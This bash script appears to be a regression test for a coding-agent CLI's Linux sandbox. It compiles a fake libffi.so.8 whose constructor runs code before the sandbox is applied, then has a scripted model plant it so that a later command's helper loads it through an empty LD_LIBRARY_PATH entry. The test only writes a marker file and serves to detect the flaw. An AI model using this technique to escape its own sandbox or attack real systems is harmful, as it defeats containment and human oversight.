#!/bin/bash
# The Python sandbox helper is spawned with the user's LD_LIBRARY_PATH. With an empty entry
# (`export LD_LIBRARY_PATH=/opt/cuda/lib64:$LD_LIBRARY_PATH` while it was unset -> trailing ':'
# = the current directory) or an entry inside the workspace ($PWD/build/lib), a library a
# sandboxed command planted in the workspace (libffi.so.8, loaded by `import ctypes`) runs in
# the NEXT command's helper before unshare/seccomp/Landlock: unsandboxed code.
set -u
. "$(dirname "$0")/harness.sh"
command -v gcc >/dev/null || { echo "needs gcc"; exit 2; }
T=$(mktemp -d /var/tmp/f05.XXXXXX)
export HOME=$T/home CODEX_HOME=$T/codexhome
mkdir -p $HOME $T/ws $T/outside
cat > $T/ffi.c <<EOC
#include <stdio.h>
__attribute__((constructor)) static void pwn(void) {
  FILE *f = fopen("$T/outside/pwned", "a"), *c = fopen("/proc/self/cmdline", "r");
  char buf[8192] = {0}; size_t n = c ? fread(buf, 1, sizeof buf - 1, c) : 0;
  for (size_t i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
  if (f) { fprintf(f, "unsandboxed: %.60s ... %s\n", buf, n > 150 ? buf + n - 150 : buf); fclose(f); }
}
typedef struct { long a, b, c, d; } T;
T ffi_type_double, ffi_type_float, ffi_type_longdouble, ffi_type_pointer, ffi_type_sint16, ffi_type_sint32,
  ffi_type_sint64, ffi_type_sint8, ffi_type_uint16, ffi_type_uint32, ffi_type_uint64, ffi_type_uint8, ffi_type_void;
void ffi_call(void){} void ffi_prep_cif(void){} void ffi_prep_cif_var(void){}
void *ffi_closure_alloc(void){return 0;} void ffi_closure_free(void){} void ffi_prep_closure_loc(void){}
EOC
cat > $T/ffi.map <<'EOM'
LIBFFI_BASE_8.0 { global: ffi_type_*; ffi_call; ffi_prep_cif; ffi_prep_cif_var; };
LIBFFI_CLOSURE_8.0 { global: ffi_closure_alloc; ffi_closure_free; ffi_prep_closure_loc; } LIBFFI_BASE_8.0;
EOM
gcc -shared -fPIC -Wl,--version-script=$T/ffi.map -Wl,-soname,libffi.so.8 -o $T/evil.so $T/ffi.c || exit 2
export CODEX_SANDBOX_HELPER=${CODEX_SANDBOX_HELPER-python}
export LD_LIBRARY_PATH=/opt/cuda/lib64:      # trailing empty entry = the process's cwd
# (the model would write the .so bytes itself, e.g. with base64 -d; here it copies a prepared one)
cat > $T/script.json <<EOS
[[{"shell": ["cp", "$T/evil.so", "libffi.so.8"]}],
 [{"shell": ["echo", "next command"]}],
 [{"text": "done"}]]
EOS
start_model $T/script.json
cd $T/ws && timeout 60 "$CODEX_BIN" exec --skip-git-repo-check --full-auto "task" >$T/stdout 2>$T/stderr
stop_model
echo "--- written outside the writable roots:"; R=$(cat $T/outside/pwned 2>/dev/null); echo "$R"
rm -rf $T
# $T/outside is outside every writable root: any line there was written unsandboxed (the helper's
# argv is long, so its "__codex_linux_sandbox__" word may fall between the two excerpts logged)
if echo "$R" | grep -q "unsandboxed:"; then echo "VULNERABLE: the Python helper loaded a planted library before sandboxing"; exit 1; fi
echo fixed; exit 0
